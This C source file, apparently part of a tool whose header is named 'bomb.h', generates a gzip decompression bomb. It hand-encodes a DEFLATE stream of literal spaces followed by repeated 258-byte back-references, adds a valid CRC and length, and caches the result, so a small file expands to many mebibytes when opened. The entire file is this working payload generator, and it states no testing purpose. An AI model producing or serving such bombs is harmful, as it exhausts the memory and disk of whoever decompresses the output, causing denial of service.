/* A run of blanks in gzip: one literal, then copies of the 258 bytes before, in the fixed
 * code of RFC 1951. */
#include "bomb.h"

enum { COPY_BYTES = 258 };

struct bits {
	struct buf *out;
	uint32_t held;
	unsigned n;
};

/* Numbers go out from their lowest bit, codes from their highest. */
static void put_bit(struct bits *b, unsigned bit)
{
	b->held |= bit << b->n++;
	if (b->n < 8)
		return;
	char byte = (char)b->held;
	buf_put(b->out, &byte, 1);
	b->held = b->n = 0;
}

static void put_code(struct bits *b, unsigned code, unsigned n)
{
	while (n-- > 0)
		put_bit(b, code >> n & 1);
}

static void put_blank(struct bits *b)
{
	put_code(b, 0x30 + ' ', 8);
}

static void put_copy(struct bits *b)
{
	put_code(b, 0xc0 + 285 - 280, 8);
	put_code(b, 0, 5); /* from one byte back */
}

static void put_u32(struct buf *out, uint32_t v)
{
	for (unsigned i = 0; i < 4; i++, v >>= 8) {
		char byte = (char)v;
		buf_put(out, &byte, 1);
	}
}

static uint32_t crc_of_blanks(uint64_t n)
{
	uint32_t table[256], crc = UINT32_MAX;
	for (uint32_t i = 0; i < 256; i++) {
		table[i] = i;
		for (int k = 0; k < 8; k++)
			table[i] = table[i] >> 1 ^ (table[i] & 1 ? 0xedb88320u : 0);
	}
	while (n-- > 0)
		crc = crc >> 8 ^ table[(crc ^ ' ') & 255];
	return ~crc;
}

static void make(struct buf *out, uint64_t n)
{
	static const char head[10] = {0x1f, (char)0x8b, 8, 0, 0, 0, 0, 0, 0, (char)255};
	struct bits b = {out, 0, 0};
	buf_put(out, head, sizeof head);
	put_bit(&b, 1); /* the last block … */
	put_bit(&b, 1); /* … in the fixed code */
	put_bit(&b, 0);
	for (uint64_t i = 0; i < n % COPY_BYTES + COPY_BYTES; i++)
		put_blank(&b);
	for (uint64_t i = 1; i < n / COPY_BYTES; i++)
		put_copy(&b);
	put_code(&b, 0, 7);
	while (b.n > 0)
		put_bit(&b, 0);
	put_u32(out, crc_of_blanks(n));
	put_u32(out, (uint32_t)n);
}

void bomb_gzip(struct buf *out, uint64_t mib)
{
	static struct buf made;
	static uint64_t made_mib;
	if (made.n == 0 || made_mib != mib) {
		made.n = 0;
		made_mib = mib;
		make(&made, MAX(mib, UINT64_C(1)) << 20);
	}
	buf_slice(out, buf_view(&made));
}
